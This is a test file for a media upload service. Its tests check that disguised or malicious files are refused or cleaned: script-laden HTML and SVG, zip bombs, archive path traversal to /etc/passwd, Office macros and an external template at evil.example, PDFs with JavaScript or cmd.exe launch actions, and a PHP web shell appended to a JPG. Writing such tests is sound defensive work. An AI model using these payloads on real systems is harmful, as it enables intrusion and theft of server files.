import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { URUMQI } from '#features/ground/accounts/server/accounts.fixtures.ts';
import type { Database } from '#platform/server/db/database.ts';
import { openTestDatabase } from '#platform/server/db/test-database.fixtures.ts';
import { type TestDeps, testDeps } from '#platform/server/test-deps.fixtures.ts';
import type { Caller } from '#platform/shared/caller.ts';
import {
  H264,
  makeCaller,
  makeClip,
  makeOffice,
  makePdf,
  makeZip,
  mediaEnv,
  TEST_PICTURE,
  TEST_SOUND,
  uploadAndRun,
} from '../media.fixtures.ts';
import { registerMediaJobs } from '../processing/media.job.ts';
import { stagedSize } from './staging.ts';

let database: Database;
let deps: TestDeps;
let author: Caller;

beforeAll(async () => {
  database = await openTestDatabase();
  deps = testDeps(database, mediaEnv());
  registerMediaJobs(deps);
  await deps.jobs.open();
  author = await makeCaller(deps, 'author1', URUMQI);
});
afterAll(async () => {
  await deps.jobs.close();
  await database.close();
});

/** Uploads a file that must be refused, and answers the sentence. */
const refusalOf = async (filename: string, bytes: Uint8Array): Promise<string> => {
  const row = await uploadAndRun(deps, author, filename, bytes);
  expect([filename, row.state, row.canRetry, row.mediaKey, row.pictureKey, row.originalKey]).toEqual([
    filename,
    'failed',
    false,
    '',
    '',
    '',
  ]);
  expect(await stagedSize(deps, row.id)).toBeNull();
  return row.problem;
};

const text = (content: string) => Buffer.from(content, 'latin1');

describe('a picture is refused or loses everything that is no picture', () => {
  it('HTML under the name of a JPG is refused', async () => {
    const html = text('<!doctype html><script>alert(1)</script>');
    expect(await refusalOf('假图片.jpg', html)).toContain('看起来是HTML 网页');
  });

  it('an SVG with a script under the name of a PNG is refused', async () => {
    const svg = text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect(await refusalOf('图形.png', svg)).toContain('看起来是SVG 图形');
  });

  it('a program under the name of a picture is refused', async () => {
    expect(await refusalOf('a.webp', text(`MZ${'\0'.repeat(100)}`))).toContain('不是 WebP');
  });

  it('a GIF that is also a script is refused, because its picture cannot be drawn', async () => {
    expect(await refusalOf('动图.gif', text('GIF89a/*aaaaaaaaaaaaaaaa*/=1;alert(1);'))).toContain('打不开');
  });

  it('a cut-off picture is refused', async () => {
    const whole = await sharp({
      create: {
        width: 600,
        height: 600,
        channels: 3,
        background: '#fff',
        noise: { type: 'gaussian', mean: 128, sigma: 30 },
      },
    })
      .jpeg()
      .toBuffer();
    expect(await refusalOf('半张.jpg', whole.subarray(0, whole.length / 3))).toContain('已损坏');
  });

  it('a picture of far too many pixels is refused before they are unpacked', async () => {
    const vast = await sharp({ create: { width: 12_000, height: 9000, channels: 3, background: '#fff' } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    expect(vast.length).toBeLessThan(1_000_000);
    expect(await refusalOf('巨图.png', vast)).toContain('像素太多');
  });

  it('a JPG with an archive and a script behind it is drawn anew without them, and without its place', async () => {
    const plain = await sharp({ create: { width: 60, height: 40, channels: 3, background: '#20639b' } })
      .jpeg()
      .withExif({ IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '43/1 49/1 0/1' } })
      .withMetadata({ orientation: 6 })
      .toBuffer();
    const hidden = [text('<?php system($_GET[0]); ?>'), makeZip([{ name: 'x.txt', content: 'PAYLOAD' }])];
    const row = await uploadAndRun(deps, author, '照片.jpg', Buffer.concat([plain, ...hidden]));
    expect([row.state, row.problem, row.width, row.height]).toEqual(['ready', '', 40, 60]);
    const kept = Buffer.from(await deps.files.getBytes(`covers/${row.pictureKey}`));
    for (const word of ['<?php', 'PK\u0003\u0004', 'PAYLOAD']) expect(kept.includes(word)).toBe(false);
    const facts = await sharp(kept).metadata();
    expect([facts.format, facts.exif, facts.xmp, facts.orientation]).toEqual([
      'webp',
      undefined,
      undefined,
      undefined,
    ]);
  });

  it('a moving GIF keeps moving', async () => {
    const gif = makeClip('gif', '-f', 'lavfi', '-i', 'testsrc=s=64x48:r=5:d=1');
    const row = await uploadAndRun(deps, author, '动.gif', gif);
    const facts = await sharp(Buffer.from(await deps.files.getBytes(`covers/${row.pictureKey}`))).metadata();
    expect([row.state, row.width, row.height, facts.pages]).toEqual(['ready', 64, 48, 5]);
  });
});

describe('a document is refused when it could do more than be read', () => {
  it('an archive under the name of a Word file is refused', async () => {
    expect(await refusalOf('报告.docx', makeZip([{ name: 'a.txt', content: 'x' }]))).toMatch(
      /不是 Word|打不开/,
    );
  });

  it('a workbook that inflates a thousandfold is refused while it inflates', async () => {
    const sheet = { name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(40 * 1024 * 1024, 'a') };
    const bomb = makeOffice('xlsx', [sheet]);
    expect(bomb.length).toBeLessThan(200_000);
    expect(await refusalOf('名单.xlsx', bomb)).toContain('压缩炸弹');
  });

  it('a bomb that lies about its size is refused, too', async () => {
    const sheet = { name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(1_000_000, 'a'), claimed: 100 };
    expect(await refusalOf('名单.xlsx', makeOffice('xlsx', [sheet]))).toMatch(/压缩炸弹|损坏/);
  });

  it('an archive with more entries than any document has is refused', async () => {
    const many = Array.from({ length: 10_050 }, (_, n) => ({ name: `word/x${n}.xml`, content: '' }));
    expect(await refusalOf('多.docx', makeOffice('docx', many))).toContain('压缩炸弹');
  });

  it.each(['../../etc/cron.d/x', '/etc/passwd', 'C:/x', 'word\\..\\x'])(
    'a path out of the archive is refused: %s',
    async (name) => {
      expect(await refusalOf('路.docx', makeOffice('docx', [{ name, content: 'x' }]))).toContain('路径');
    },
  );

  it('macros are refused, by their part and by their type', async () => {
    const part = { name: 'word/vbaProject.bin', content: 'x' };
    expect(await refusalOf('宏.docx', makeOffice('docx', [part]))).toContain('宏');
    const types =
      '<Types><Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>';
    const zip = makeOffice('xlsx', [{ name: '[Content_Types].xml', content: types }]);
    expect(await refusalOf('宏.xlsx', zip)).toMatch(/宏|不是 Excel/);
  });

  it('a template from elsewhere is refused, a link to click is not', async () => {
    const relation = (type: string) => ({
      name: 'word/_rels/settings.xml.rels',
      content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
    });
    expect(await refusalOf('模板.docx', makeOffice('docx', [relation('attachedTemplate')]))).toContain(
      '外部',
    );
    const row = await uploadAndRun(deps, author, '链接.docx', makeOffice('docx', [relation('hyperlink')]));
    expect([row.state, row.originalKey !== '']).toEqual(['ready', true]);
  });

  it('words behind the end of an archive are refused', async () => {
    expect(await refusalOf('尾.docx', makeOffice('docx', [], '<script>alert(1)</script>'))).toContain('夹带');
    const tailed = Buffer.concat([makeOffice('docx'), text('<html><script>')]);
    expect(await refusalOf('尾.docx', tailed)).toMatch(/夹带|损坏/);
  });

  it('an old Office file with macros, one under a password, and one that is another are refused', async () => {
    const cfb = (name: string) =>
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(600),
        Buffer.from(name, 'utf16le'),
        Buffer.alloc(600),
      ]);
    expect(await refusalOf('旧.doc', cfb('WordDocument _VBA_PROJECT'))).toContain('宏');
    expect(await refusalOf('密.docx', cfb('EncryptedPackage'))).toContain('密码');
    expect(await refusalOf('旧.xls', cfb('WordDocument'))).toContain('打不开');
    expect((await uploadAndRun(deps, author, '好.doc', cfb('WordDocument'))).state).toBe('ready');
  });

  it('a plain PDF is kept and is its own preview', async () => {
    const row = await uploadAndRun(deps, author, '讲义.pdf', makePdf());
    expect([row.state, row.mimeType, row.previewKey]).toEqual(['ready', 'application/pdf', row.originalKey]);
  });

  it.each([
    ['a script', '3 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj'],
    ['a script with its name in disguise', '3 0 obj\n<< /S /J#61vaScrip#74 /#4AS (app.alert(1)) >>\nendobj'],
    ['a program to start', '3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj'],
    [
      'a script inside what claims to be a stream',
      '3 0 obj\n<< /Length 9 >>\nstream\n<< /S /JavaScript /JS (x) >>\nendstream\nendobj',
    ],
  ])('a PDF with %s is refused', async (_, object) => {
    expect(await refusalOf('脚本.pdf', makePdf([object]))).toContain('PDF 里有脚本');
  });

  it('a PDF that hides its script in a packed stream is refused', async () => {
    const packed = deflateSync('4 0 << /S /JavaScript /JS (app.alert(1)) >>').toString('latin1');
    const filter = (name: string) =>
      `3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter ${name} /Length ${packed.length} >>\nstream\n${packed}\nendstream\nendobj`;
    expect(await refusalOf('包.pdf', makePdf([filter('/FlateDecode')]))).toContain('脚本');
    expect(await refusalOf('包.pdf', makePdf([filter('[/ASCIIHexDecode /FlateDecode]')]))).toContain('脚本');
  });

  it('a locked PDF, a cut-off one and one with an archive behind it are refused', async () => {
    const locked = Buffer.from(
      makePdf().toString('latin1').replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 5 0 R'),
      'latin1',
    );
    expect(await refusalOf('密.pdf', locked)).toContain('密码');
    expect(await refusalOf('断.pdf', makePdf().subarray(0, 60))).toContain('打不开');
    const zip = makeZip([{ name: 'a.html', content: '<script>' }]).toString('latin1');
    expect(await refusalOf('双.pdf', makePdf([], zip))).toContain('夹带');
    expect(await refusalOf('前.pdf', Buffer.concat([text('<html>'), makePdf()]))).toContain('不是 PDF');
  });
});

describe('video and audio are refused when they are something else', () => {
  it('a playlist that names other files is refused, whatever it is called', async () => {
    const playlist = text('#EXTM3U\n#EXTINF:5,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n');
    const concat = text("ffconcat version 1.0\nfile '/etc/passwd'\n");
    for (const name of ['课.mp4', '课.ts', '课.mp3', '课.mkv']) {
      expect(await refusalOf(name, playlist)).toContain('看起来是播放清单');
      expect(await refusalOf(name, concat)).toContain('看起来是播放清单');
    }
  });

  it('a file with the head of a video and nothing in it is refused', async () => {
    const head = Buffer.concat([
      Buffer.from('0000002066747970', 'hex'),
      text('isom\0\0\u0002\0isomiso2mp41'),
    ]);
    expect(await refusalOf('空.mp4', Buffer.concat([head, Buffer.alloc(4000, 7)]))).toContain('打不开');
  });

  it('a transport stream of noise is refused', async () => {
    const noise = Buffer.alloc(188 * 40, 0x5a);
    for (let at = 0; at < noise.length; at += 188) noise[at] = 0x47;
    expect(await refusalOf('噪.ts', noise)).toMatch(/打不开|没有在文件里找到/);
  });

  it('sound alone under the name of a video is refused with the advice to send it as audio', async () => {
    const sound = makeClip('mp4', ...TEST_SOUND, '-c:a', 'aac');
    expect(await refusalOf('只有声.mp4', sound)).toMatch(/作为音频/);
  });

  it('a video under the name of an audio file of another family is refused', async () => {
    const video = makeClip('mp4', ...TEST_PICTURE, ...H264);
    expect(await refusalOf('其实是视频.mp3', video)).toContain('不是 MP3');
    expect(await refusalOf('没有声.m4a', video)).toContain('没有在文件里找到声音');
  });
});
